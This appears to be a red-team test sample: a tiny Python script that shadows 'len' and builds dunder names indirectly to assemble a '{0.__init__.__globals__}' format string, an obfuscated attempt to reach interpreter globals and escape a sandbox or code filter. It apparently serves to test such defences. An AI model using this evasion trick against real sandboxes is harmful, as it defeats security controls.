# family: red team, round 68b (len as a lambda parameter)
class Evil:
    def __rmul__(self, other):
        u = "x_"[1] + "x_"[1]
        return "{0." + u + "init" + u + "." + u + "globals" + u + "}"
def mk(x):
    return Evil()
def show():
    return 1
print((lambda len: ("{}" * len(show)).format(show))(mk))
